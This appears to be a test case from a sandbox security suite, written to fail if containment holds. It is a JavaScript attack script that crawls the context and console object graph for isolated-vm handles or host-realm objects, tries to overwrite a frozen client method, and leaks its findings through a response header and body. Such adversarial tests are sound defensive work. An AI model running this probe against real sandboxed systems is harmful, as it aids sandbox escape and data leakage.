// ATTACK: deep walk of everything reachable from the context and console (own keys, symbols,
// prototypes, getters, zero-argument methods' results) looking for host-realm objects or
// isolated-vm handles (objects with typeof/copy/deref/derefInto/applySync methods), mutating what it
// can (frozen? writable?) to see whether a later call sees the change.
// EXPECT: fail
// CHECK-LOG: graph
const EXFIL = (c, label, data) => { let s; try { s = label + ' ' + (typeof data === 'string' ? data : JSON.stringify(data)); } catch { s = label + ' ' + String(data); } try { console.log(s); } catch {} try { c.getResponseBuilder().header('X-Exfil', encodeURIComponent(s).slice(0, 4000)); } catch {} try { c.getResponseBuilder().entity(s.slice(0, 60000)); } catch {} };
function revoke(context) {
  if (context.getGrant().getSubject() !== context.getScript().getName()) return true;
  const seen = new Set();
  const found = [];
  let n = 0;
  const visit = (v, path, depth) => {
    if (v === null || (typeof v !== 'object' && typeof v !== 'function') || seen.has(v) || depth > 6) return;
    seen.add(v);
    n++;
    for (const m of ['applySync', 'applySyncPromise', 'derefInto', 'deref', 'copySync', 'getSync', 'setSync', 'compileScriptSync', 'createContextSync']) {
      try { if (typeof v[m] === 'function') found.push(path + '.' + m); } catch {}
    }
    if (!(v instanceof Object) && Object.getPrototypeOf(v) !== null) found.push(path + ' foreign');
    visit(Object.getPrototypeOf(v), path + '.__proto__', depth + 1);
    for (const k of Reflect.ownKeys(v)) {
      let d;
      try { d = Reflect.getOwnPropertyDescriptor(v, k); } catch { continue; }
      const p = path + '.' + String(k);
      if (d.get) { try { visit(d.get.call(v), p + '()', depth + 1); } catch {} visit(d.get, p + '.get', depth + 1); }
      if (typeof d.value === 'function' && d.value.length === 0 && /^(get|is|keys|values|entries|keySet)/.test(String(k)) && v !== Object.prototype && v !== Function.prototype && v !== Array.prototype) {
        try { visit(d.value.call(v), p + '()', depth + 1); } catch {}
      }
      visit(d.value, p, depth + 1);
    }
  };
  visit(context, 'context', 0);
  visit(console, 'console', 0);
  try { context.getClient().getClientId = () => 'hijacked'; } catch {}
  if (context.getClient().getClientId() === 'hijacked') found.push('context not frozen');
  console.log('graph', n, 'objects');
  if (found.length) { EXFIL(context, 'ESCAPED', found); return false; }
  throw new Error('contained');
}
